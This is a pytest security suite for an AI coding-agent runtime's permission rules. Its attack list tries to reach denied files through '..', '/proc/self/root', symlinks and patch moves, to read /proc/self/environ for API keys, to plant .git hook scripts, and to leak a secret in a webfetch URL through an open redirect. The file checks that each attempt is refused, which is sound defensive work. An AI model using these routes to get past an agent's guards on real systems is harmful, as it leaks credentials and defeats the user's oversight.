"""Permission rules hold on real paths, for every file tool; secrets and control files are guarded.

Each attack is replayed through the Python API (a runtime with the built-in
tools and an approver that denies) and through the real ``zuno call`` (no
``--yes``, stdin not a terminal, the rules in the user's config under a
temporary ``$ZUNO_CONFIG_HOME``). An attack is refused when the call is
blocked, or, for a search, when its answer holds no denied file; in every case
the disk is checked to be unchanged and no secret may appear in the output.

The groups:

- ``paths``: deny rules on ``.env`` and ``secrets/**`` in permissive mode (so
  only the rules stand in the way), reached through ``..``, ``//``,
  ``/proc/self/root``, symlinks, every kind of apply_patch operation, and
  searches with no path, hidden files or a parent folder;
- ``control``: writes to ``zuno.json``, ``.git/`` and ``.zuno/`` in permissive
  mode with a rule allowing everything;
- ``secrets``: the process's environment through ``/proc``, in permissive
  mode with a rule allowing everything;
- ``strict``: reads outside the workspace and a fetch from an unlisted host in
  strict mode with no rules.
"""

from __future__ import annotations

import http.server
import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from zuno.config.loading import Config
from zuno.contract.calls import CallResult
from zuno.core.declarations import Outcome
from zuno.policy.approvals import ApprovalDecision, ApprovalRequest, CallbackApprover, DenyAll
from zuno.session.builtin_tools import builtin_tools
from zuno.session.runtime import Runtime

pytestmark = pytest.mark.anyio

ZUNO = str(Path(sys.executable).with_name("zuno"))
SECRET = "zuno-path-rules-secret-5b1e"
"""The content of every file a rule denies (or that lies outside the workspace)."""
PROBE = "rules-secret"
"""What searches look for: it matches the secret without being it (answers echo the pattern)."""
ENV_NAME = "ZUNO_PATH_RULES_TEST_KEY"
ENV_SECRET = "zuno-env-secret-9c2d"
"""A value in Zuno's own environment, as a provider API key would be."""

DENY_RULES = [
    {"tool": "*", "pattern": ".env", "action": "deny"},
    {"tool": "*", "pattern": "secrets/**", "action": "deny"},
]
ALLOW_ALL = [{"tool": "*", "pattern": "**", "action": "allow"}]

GROUPS: dict[str, dict[str, Any]] = {
    "paths": {"permission": {"mode": "permissive", "rules": DENY_RULES}},
    "control": {"permission": {"mode": "permissive", "rules": ALLOW_ALL}},
    "secrets": {"permission": {"mode": "permissive", "rules": ALLOW_ALL}},
    "strict": {"permission": {"mode": "strict"}},
}


def _web(config: dict[str, Any]) -> dict[str, Any]:
    # The test server is on 127.0.0.1: let webfetch reach it, so only approval stands between.
    return {**config, "web": {"allow_private_networks": True}}


# --- the places attacked -------------------------------------------------------------


@dataclass
class Places:
    """A workspace with denied files, control folders and symlinks, and a folder outside it."""

    ws: Path
    outside: Path

    @classmethod
    def build(cls, root: Path) -> Places:
        ws = root / "ws"
        outside = root / "outside"
        for folder in (ws / "sub", ws / "secrets", ws / ".git" / "hooks", ws / ".zuno", outside):
            folder.mkdir(parents=True)
        (ws / ".env").write_text(f"# env\nTOKEN={SECRET}\n")
        (ws / "secrets" / "key.txt").write_text(f"{SECRET}\n")
        (ws / "sub" / "a.txt").write_text("plain text\n")
        (ws / ".git" / "config").write_text("[core]\n")
        (ws / "link_env").symlink_to(".env")
        (ws / "link_dir").symlink_to("secrets")
        (ws / "gitcfg").symlink_to(".git/config")
        (ws / "envlink").symlink_to("/proc/self/environ")
        (ws / "out_link").symlink_to(outside / "secret.txt")
        (outside / "secret.txt").write_text(f"{SECRET}\n")
        return cls(ws, outside)

    def snapshot(self) -> dict[str, Any]:
        """Everything on disk under both folders: files with content, folders, symlinks."""
        found: dict[str, Any] = {}
        for base in (self.ws, self.outside):
            for dirpath, dirnames, filenames in os.walk(base):
                for name in dirnames + filenames:
                    path = Path(dirpath) / name
                    key = str(path)
                    if path.is_symlink():
                        found[key] = ("link", os.readlink(path))
                    elif path.is_dir():
                        found[key] = ("dir",)
                    else:
                        found[key] = ("file", path.read_bytes())
        return found


# --- the attacks -------------------------------------------------------------------------


Args = Callable[[Places], dict[str, Any]]


@dataclass(frozen=True)
class Attack:
    """One call an attacker would make.

    ``blocked``: the call must be blocked. Otherwise (a search) it may run, but
    its answer must name none of ``hidden``.
    """

    name: str
    group: str
    tool: str
    args: Args
    blocked: bool = True
    hidden: tuple[str, ...] = ()


def patch(*lines: str) -> dict[str, Any]:
    return {"patch": "\n".join(["*** Begin Patch", *lines, "*** End Patch"])}


def _abs(places: Places, rel: str) -> str:
    return f"{places.ws}/{rel}"


DENIED_NAMES = (".env", "secrets/key.txt", "link_dir/key.txt", "link_env")

ATTACKS = [
    # Reads of a denied file by another name.
    Attack("read sub/../.env", "paths", "read", lambda p: {"path": "sub/../.env"}),
    Attack("read //W/.env", "paths", "read", lambda p: {"path": "/" + _abs(p, ".env")}),
    Attack(
        "read /proc/self/root/W/.env",
        "paths",
        "read",
        lambda p: {"path": "/proc/self/root" + _abs(p, ".env")},
    ),
    Attack("read symlink to denied file", "paths", "read", lambda p: {"path": "link_env"}),
    Attack(
        "read through symlink to denied folder",
        "paths",
        "read",
        lambda p: {"path": "link_dir/key.txt"},
    ),
    # Writes.
    Attack(
        "write sub/../.env", "paths", "write", lambda p: {"path": "sub/../.env", "content": "x"}
    ),
    Attack(
        "write //W/.env",
        "paths",
        "write",
        lambda p: {"path": "/" + _abs(p, ".env"), "content": "x"},
    ),
    Attack(
        "write /proc/self/root/W/.env",
        "paths",
        "write",
        lambda p: {"path": "/proc/self/root" + _abs(p, ".env"), "content": "x"},
    ),
    Attack(
        "write symlink to denied file",
        "paths",
        "write",
        lambda p: {"path": "link_env", "content": "x"},
    ),
    Attack(
        "write through symlink to denied folder",
        "paths",
        "write",
        lambda p: {"path": "link_dir/new.txt", "content": "x"},
    ),
    # apply_patch: every operation, onto and from denied paths.
    Attack(
        "apply_patch add in denied folder",
        "paths",
        "apply_patch",
        lambda p: patch("*** Add File: secrets/new.txt", "+x"),
    ),
    Attack(
        "apply_patch update .env",
        "paths",
        "apply_patch",
        lambda p: patch("*** Update File: .env", "@@", "-# env", "+# owned"),
    ),
    Attack(
        "apply_patch update sub/../.env",
        "paths",
        "apply_patch",
        lambda p: patch("*** Update File: sub/../.env", "@@", "-# env", "+# owned"),
    ),
    Attack(
        "apply_patch delete .env",
        "paths",
        "apply_patch",
        lambda p: patch("*** Delete File: .env"),
    ),
    Attack(
        "apply_patch delete symlink to .env",
        "paths",
        "apply_patch",
        lambda p: patch("*** Delete File: link_env"),
    ),
    Attack(
        "apply_patch move onto denied folder",
        "paths",
        "apply_patch",
        lambda p: patch(
            "*** Update File: sub/a.txt",
            "*** Move to: secrets/moved.txt",
            "@@",
            "-plain text",
            "+plain text",
        ),
    ),
    Attack(
        "apply_patch move .env away",
        "paths",
        "apply_patch",
        lambda p: patch(
            "*** Update File: .env", "*** Move to: sub/moved.txt", "@@", "-# env", "+# env"
        ),
    ),
    # Searches: they may run, but never return a denied file.
    Attack(
        "grep no path",
        "paths",
        "grep",
        lambda p: {"pattern": PROBE},
        blocked=False,
        hidden=DENIED_NAMES,
    ),
    Attack(
        "grep hidden",
        "paths",
        "grep",
        lambda p: {"pattern": PROBE, "hidden": True},
        blocked=False,
        hidden=DENIED_NAMES,
    ),
    Attack(
        "grep parent folder",
        "paths",
        "grep",
        lambda p: {"pattern": PROBE, "path": "sub/..", "hidden": True},
        blocked=False,
        hidden=DENIED_NAMES,
    ),
    Attack(
        "grep include * hidden files mode",
        "paths",
        "grep",
        lambda p: {
            "pattern": "TOKEN|" + PROBE,
            "include": "*",
            "hidden": True,
            "output_mode": "files",
        },
        blocked=False,
        hidden=DENIED_NAMES,
    ),
    Attack(
        "grep count mode",
        "paths",
        "grep",
        lambda p: {"pattern": PROBE, "hidden": True, "output_mode": "count"},
        blocked=False,
        hidden=DENIED_NAMES,
    ),
    Attack("grep denied folder", "paths", "grep", lambda p: {"pattern": "x", "path": "secrets"}),
    Attack(
        "grep symlink to denied folder",
        "paths",
        "grep",
        lambda p: {"pattern": "x", "path": "link_dir"},
    ),
    Attack("grep denied file", "paths", "grep", lambda p: {"pattern": "T", "path": ".env"}),
    Attack(
        "glob **", "paths", "glob", lambda p: {"pattern": "**"}, blocked=False, hidden=DENIED_NAMES
    ),
    Attack(
        "glob .env*",
        "paths",
        "glob",
        lambda p: {"pattern": ".env*"},
        blocked=False,
        hidden=DENIED_NAMES,
    ),
    Attack(
        "glob secrets/**",
        "paths",
        "glob",
        lambda p: {"pattern": "secrets/**"},
        blocked=False,
        hidden=DENIED_NAMES,
    ),
    Attack("glob in denied folder", "paths", "glob", lambda p: {"pattern": "*", "path": "secrets"}),
    # Control files, in permissive mode with everything allowed by rule.
    Attack(
        "write zuno.json",
        "control",
        "write",
        lambda p: {"path": "zuno.json", "content": '{"permission": {"mode": "permissive"}}'},
    ),
    Attack(
        "write .git/hooks/x",
        "control",
        "write",
        lambda p: {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ntouch /tmp/owned\n"},
    ),
    Attack("write .zuno/x", "control", "write", lambda p: {"path": ".zuno/x", "content": "x"}),
    Attack(
        "write symlink to .git/config",
        "control",
        "write",
        lambda p: {"path": "gitcfg", "content": "[core]\nhooksPath=/tmp\n"},
    ),
    Attack(
        "apply_patch add .git/hooks/x",
        "control",
        "apply_patch",
        lambda p: patch("*** Add File: .git/hooks/post-checkout", "+#!/bin/sh"),
    ),
    Attack(
        "apply_patch move into .git/hooks",
        "control",
        "apply_patch",
        lambda p: patch(
            "*** Update File: sub/a.txt",
            "*** Move to: .git/hooks/pre-push",
            "@@",
            "-plain text",
            "+#!/bin/sh",
        ),
    ),
    # Zuno's own environment, with everything allowed by rule.
    Attack("read /proc/self/environ", "secrets", "read", lambda p: {"path": "/proc/self/environ"}),
    Attack(
        "read /proc/thread-self/environ",
        "secrets",
        "read",
        lambda p: {"path": "/proc/thread-self/environ"},
    ),
    Attack("read symlink to /proc/self/environ", "secrets", "read", lambda p: {"path": "envlink"}),
    Attack(
        "grep /proc/self/environ",
        "secrets",
        "grep",
        lambda p: {"pattern": ENV_NAME, "path": "/proc/self/environ"},
    ),
    Attack(
        "grep the /proc/self tree",
        "secrets",
        "grep",
        lambda p: {"pattern": ENV_NAME, "path": "/proc/self", "hidden": True},
    ),
    Attack(
        "grep symlink to /proc/self/environ",
        "secrets",
        "grep",
        lambda p: {"pattern": ENV_NAME, "path": "envlink"},
    ),
    Attack(
        "read /dev/fd/../../proc/self/environ",
        "secrets",
        "read",
        lambda p: {"path": "/dev/fd/../../proc/self/environ"},
    ),
    # Strict mode, no rules: reads outside the workspace and fetches ask (and no one answers).
    Attack(
        "read outside the workspace",
        "strict",
        "read",
        lambda p: {"path": str(p.outside / "secret.txt")},
    ),
    Attack("read symlink to outside", "strict", "read", lambda p: {"path": "out_link"}),
    Attack(
        "grep outside the workspace",
        "strict",
        "grep",
        lambda p: {"pattern": PROBE, "path": str(p.outside)},
    ),
    Attack(
        "glob outside the workspace",
        "strict",
        "glob",
        lambda p: {"pattern": "*", "path": str(p.outside)},
    ),
]


def attack_id(attack: Attack) -> str:
    return attack.name.replace(" ", "_")


# --- judging --------------------------------------------------------------------------------


def refusal_problems(attack: Attack, outcome: str, text: str, data: Any) -> list[str]:
    """Why this answer is not a refusal (empty when it is)."""
    problems: list[str] = []
    answer = text + json.dumps(data)
    if SECRET in answer or ENV_SECRET in answer:
        problems.append("a secret is in the answer")
    if attack.blocked:
        if outcome != "blocked":
            problems.append(f"outcome {outcome!r}, expected blocked: {text[:300]}")
    else:
        named = _named_paths(data)
        leaked = [name for name in attack.hidden if name in named]
        if leaked:
            problems.append(f"the answer names denied paths {leaked}")
    return problems


def _named_paths(data: Any) -> set[str]:
    if not isinstance(data, dict):
        return set()
    names: set[str] = set(data.get("paths") or [])
    names |= {line["path"] for line in data.get("lines") or []}
    names |= set((data.get("counts") or {}).keys())
    return names


# --- Python API ---------------------------------------------------------------------------------


def api_runtime(places: Places, tmp_path: Path, config: dict[str, Any], approver: Any) -> Runtime:
    cfg = Config.model_validate(config)
    return Runtime(
        places.ws,
        config=cfg,
        db_path=tmp_path / "api.db",
        approver=approver,
        tools=builtin_tools(cfg),
    )


@pytest.fixture
def secret_env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(ENV_NAME, ENV_SECRET)


@pytest.mark.usefixtures("secret_env")
@pytest.mark.parametrize("attack", ATTACKS, ids=attack_id)
async def test_attack_through_the_api(attack: Attack, tmp_path: Path) -> None:
    places = Places.build(tmp_path)
    before = places.snapshot()
    rt = api_runtime(places, tmp_path, _web(GROUPS[attack.group]), DenyAll())
    session = rt.open_session()
    result = await rt.call(session, attack.tool, attack.args(places))
    assert not refusal_problems(attack, result.outcome.value, result.output, result.data)
    assert places.snapshot() == before


# --- the real CLI ------------------------------------------------------------------------------


def cli_call(
    places: Places, home: Path, db: Path, tool: str, args: dict[str, Any]
) -> tuple[int, dict[str, Any], str]:
    env = {
        **os.environ,
        "ZUNO_CONFIG_HOME": str(home),
        "ZUNO_DB": str(db),
        ENV_NAME: ENV_SECRET,
        "COLUMNS": "400",
    }
    proc = subprocess.run(
        [ZUNO, "call", tool, json.dumps(args), "--json", "-w", str(places.ws), "--db", str(db)],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    try:
        answer = json.loads(proc.stdout)
    except json.JSONDecodeError:
        answer = {"outcome": f"no JSON (exit {proc.returncode})", "result": proc.stdout}
    return proc.returncode, answer, proc.stdout + proc.stderr


@pytest.mark.parametrize("group", sorted(GROUPS))
def test_attacks_through_the_cli(group: str, tmp_path: Path) -> None:
    places = Places.build(tmp_path)
    home = tmp_path / "home"
    home.mkdir()
    (home / "zuno.json").write_text(json.dumps(_web(GROUPS[group])))
    attacks = [a for a in ATTACKS if a.group == group]
    before = places.snapshot()

    def one(item: tuple[int, Attack]) -> list[str]:
        index, attack = item
        db = tmp_path / f"cli-{index}.db"
        code, answer, everything = cli_call(places, home, db, attack.tool, attack.args(places))
        problems = refusal_problems(
            attack, str(answer.get("outcome")), str(answer.get("result")), answer.get("data")
        )
        if SECRET in everything or ENV_SECRET in everything:
            problems.append("a secret is in the command's output")
        if attack.blocked and code == 0:
            problems.append("exit status 0")
        return [f"{attack.name}: {p}" for p in problems]

    # Each call is its own process; a few at a time keep the wall time reasonable.
    with ThreadPoolExecutor(max_workers=3) as pool:
        failures = [p for problems in pool.map(one, enumerate(attacks)) for p in problems]
    failed = {failure.split(":")[0] for failure in failures}
    print(
        f"\n{group}: {len(attacks)} attacks through the CLI, {len(attacks) - len(failed)} refused"
    )
    assert failures == []
    assert places.snapshot() == before


# --- what must still work (the refusals above are not refusing everything) ------------------


async def test_the_same_tools_still_work_on_allowed_paths(tmp_path: Path) -> None:
    places = Places.build(tmp_path)
    rt = api_runtime(places, tmp_path, GROUPS["paths"], DenyAll())
    s = rt.open_session()
    read = await rt.call(s, "read", {"path": "sub/a.txt"})
    grep = await rt.call(s, "grep", {"pattern": "plain", "hidden": True})
    glob = await rt.call(s, "glob", {"pattern": "**"})
    write = await rt.call(s, "write", {"path": "sub/new.txt", "content": "new\n"})
    assert [r.outcome for r in (read, grep, glob, write)] == [Outcome.OK] * 4
    assert "plain text" in read.output
    assert grep.data is not None and [x["path"] for x in grep.data["lines"]] == ["sub/a.txt"]
    assert glob.data is not None and "sub/a.txt" in glob.data["paths"]
    assert (places.ws / "sub" / "new.txt").read_text() == "new\n"


async def test_a_control_file_write_is_asked_not_refused(tmp_path: Path) -> None:
    places = Places.build(tmp_path)
    asked: list[ApprovalRequest] = []

    def approve(request: ApprovalRequest) -> ApprovalDecision:
        asked.append(request)
        return ApprovalDecision.APPROVE_ONCE

    rt = api_runtime(places, tmp_path, GROUPS["control"], CallbackApprover(approve))
    s = rt.open_session()
    plain = await rt.call(s, "write", {"path": "sub/b.txt", "content": "b\n"})
    hook = await rt.call(s, "write", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\n"})
    assert plain.outcome is Outcome.OK and hook.outcome is Outcome.OK
    assert [r.tool for r in asked] == ["write"]
    assert "control file" in asked[0].reason
    assert (places.ws / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\n"


async def test_a_deny_rule_still_denies_a_control_file(tmp_path: Path) -> None:
    places = Places.build(tmp_path)
    config = {"permission": {"rules": [{"tool": "*", "pattern": ".git/**", "action": "deny"}]}}
    asked: list[ApprovalRequest] = []
    rt = api_runtime(places, tmp_path, config, CallbackApprover(lambda r: asked.append(r) or True))
    result = await rt.call(rt.open_session(), "write", {"path": ".git/hooks/x", "content": "x"})
    assert result.outcome is Outcome.BLOCKED and asked == []
    assert not (places.ws / ".git" / "hooks" / "x").exists()


async def test_strict_mode_reads_artifacts_and_read_roots_without_asking(tmp_path: Path) -> None:
    places = Places.build(tmp_path)
    config = {"permission": {"mode": "strict", "read_roots": [str(places.outside)]}}
    rt = api_runtime(places, tmp_path, config, DenyAll())
    s = rt.open_session()
    # The session's own saved output is read unasked; another session's is outside.
    artifact = rt.artifacts.write_text(s.session_id, "call_y", "grep", "the whole answer\n")
    theirs = rt.artifacts.write_text("ses_other", "call_z", "grep", "their answer\n")
    outside = await rt.call(s, "read", {"path": str(places.outside / "secret.txt")})
    saved = await rt.call(s, "read", {"path": str(artifact)})
    other = await rt.call(s, "read", {"path": str(theirs)})
    elsewhere = await rt.call(s, "read", {"path": "/etc/hostname"})
    assert outside.outcome is Outcome.OK and saved.outcome is Outcome.OK
    assert "the whole answer" in saved.output
    assert other.outcome is Outcome.BLOCKED and "their answer" not in other.output
    assert elsewhere.outcome is Outcome.BLOCKED and "outside the workspace" in elsewhere.output


async def test_an_allow_rule_lets_a_read_outside_through(tmp_path: Path) -> None:
    places = Places.build(tmp_path)
    pattern = f"{places.outside}/**"
    config = {"permission": {"rules": [{"tool": "read", "pattern": pattern, "action": "allow"}]}}
    rt = api_runtime(places, tmp_path, config, DenyAll())
    result = await rt.call(rt.open_session(), "read", {"path": str(places.outside / "secret.txt")})
    assert result.outcome is Outcome.OK


# --- webfetch: a URL can carry a secret out -----------------------------------------------------


class _Counting(http.server.BaseHTTPRequestHandler):
    seen: list[str]

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        self.seen.append(f"{self.headers.get('Host')}{self.path}")
        if self.path.startswith("/go?to="):
            # An open redirect, as many sites have one.
            self.send_response(302)
            self.send_header("Location", self.path.removeprefix("/go?to="))
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = b"hello"
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    """A real HTTP server on 127.0.0.1 that records every request it gets."""
    seen: list[str] = []
    handler = type("Handler", (_Counting,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()


async def test_webfetch_to_an_unlisted_host_is_asked_and_nothing_is_sent(
    tmp_path: Path, listener: tuple[int, list[str]]
) -> None:
    port, seen = listener
    places = Places.build(tmp_path)
    rt = api_runtime(places, tmp_path, _web(GROUPS["strict"]), DenyAll())
    url = f"http://127.0.0.1:{port}/leak?d={SECRET}"
    result = await rt.call(rt.open_session(), "webfetch", {"url": url})
    assert result.outcome is Outcome.BLOCKED and "allowed_domains" in result.output
    assert seen == []


@pytest.mark.parametrize(
    "extra",
    [
        {
            "permission": {
                "rules": [{"tool": "webfetch", "pattern": "127.0.0.1", "action": "allow"}]
            }
        },
        {"web": {"allow_private_networks": True, "allowed_domains": ["127.0.0.1"]}},
    ],
    ids=["allow rule on the host", "allowed_domains"],
)
async def test_webfetch_to_a_listed_host_is_not_asked(
    tmp_path: Path, listener: tuple[int, list[str]], extra: dict[str, Any]
) -> None:
    port, seen = listener
    places = Places.build(tmp_path)
    rt = api_runtime(places, tmp_path, {**_web({}), **extra}, DenyAll())
    result = await rt.call(rt.open_session(), "webfetch", {"url": f"http://127.0.0.1:{port}/a"})
    assert result.outcome is Outcome.OK, result.output
    assert seen == [f"127.0.0.1:{port}/a"]


async def test_approving_a_fetch_for_the_session_covers_its_host_only(
    tmp_path: Path, listener: tuple[int, list[str]]
) -> None:
    port, seen = listener
    places = Places.build(tmp_path)
    asked: list[ApprovalRequest] = []

    def approve(request: ApprovalRequest) -> ApprovalDecision:
        asked.append(request)
        return ApprovalDecision.APPROVE_SESSION

    rt = api_runtime(places, tmp_path, _web(GROUPS["strict"]), CallbackApprover(approve))
    s = rt.open_session()
    results: list[CallResult] = []
    for url in (
        f"http://127.0.0.1:{port}/a",
        f"http://127.0.0.1:{port}/b?q=1",
        f"http://localhost:{port}/c",
        f"http://LOCALHOST:{port}/d",
    ):
        results.append(await rt.call(s, "webfetch", {"url": url}))
    assert [r.outcome for r in results] == [Outcome.OK] * 4
    assert [r.covers for r in asked] == ["fetches from 127.0.0.1", "fetches from localhost"]
    assert len(seen) == 4


def test_webfetch_through_the_cli_sends_nothing(
    tmp_path: Path, listener: tuple[int, list[str]]
) -> None:
    port, seen = listener
    places = Places.build(tmp_path)
    home = tmp_path / "home"
    home.mkdir()
    (home / "zuno.json").write_text(json.dumps(_web(GROUPS["strict"])))
    url = f"http://127.0.0.1:{port}/leak?d={SECRET}"
    code, answer, _ = cli_call(places, home, tmp_path / "cli.db", "webfetch", {"url": url})
    assert code != 0 and answer.get("outcome") == "blocked"
    assert seen == []


# --- a symlink swapped between the check and the open ------------------------------------------


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("read", {"path": "swap"}),
        ("grep", {"pattern": PROBE, "path": "swap", "hidden": True}),
        ("glob", {"pattern": "**", "path": "swap"}),
    ],
)
async def test_a_symlink_swapped_after_the_check_does_not_reach_a_denied_path(
    tmp_path: Path, tool: str, args: dict[str, Any]
) -> None:
    # An ask rule on the link's name puts the approver between the pre-flight's
    # resolution and the run; the approver swaps the link the way a background
    # process could, then approves.
    places = Places.build(tmp_path)
    swap = places.ws / "swap"
    swap.symlink_to("sub/a.txt" if tool == "read" else "sub")
    target = ".env" if tool == "read" else "secrets"
    rules = [*DENY_RULES, {"tool": tool, "pattern": "swap", "action": "ask"}]

    def swap_then_approve(request: ApprovalRequest) -> ApprovalDecision:
        swap.unlink()
        swap.symlink_to(target)
        return ApprovalDecision.APPROVE_ONCE

    config = {"permission": {"mode": "permissive", "rules": rules}}
    rt = api_runtime(places, tmp_path, config, CallbackApprover(swap_then_approve))
    result = await rt.call(rt.open_session(), tool, args)
    answer = result.output + json.dumps(result.data)
    assert SECRET not in answer and "key.txt" not in answer, answer


@pytest.mark.parametrize("mode", ["strict", "permissive"])
async def test_an_allowed_host_cannot_redirect_the_url_to_another_host(
    tmp_path: Path, listener: tuple[int, list[str]], mode: str
) -> None:
    port, seen = listener
    places = Places.build(tmp_path)
    rules = [{"tool": "webfetch", "pattern": "127.0.0.1", "action": "allow"}]
    rt = api_runtime(
        places, tmp_path, _web({"permission": {"mode": mode, "rules": rules}}), DenyAll()
    )
    target = f"http://localhost:{port}/x?d={SECRET}"
    result = await rt.call(
        rt.open_session(), "webfetch", {"url": f"http://127.0.0.1:{port}/go?to={target}"}
    )
    reached = [hit for hit in seen if hit.startswith("localhost")]
    if mode == "strict":
        assert result.outcome is Outcome.ERROR and "redirected to another host" in result.output
        assert reached == []
    else:  # permissive mode asks nothing and follows redirects anywhere, as configured
        assert result.outcome is Outcome.OK and len(reached) == 1


async def test_listing_a_folder_leaves_out_denied_entries(tmp_path: Path) -> None:
    places = Places.build(tmp_path)
    rt = api_runtime(places, tmp_path, GROUPS["paths"], DenyAll())
    s = rt.open_session()
    top = await rt.call(s, "read", {"path": "."})
    sub = await rt.call(s, "read", {"path": "sub"})
    assert top.outcome is Outcome.OK and sub.outcome is Outcome.OK
    entries = top.output.splitlines()
    assert ".env" not in entries and "secrets/" not in entries
    assert "sub/" in entries and "link_env" in entries  # a link's name is not its content
    assert "a.txt" in sub.output.splitlines()
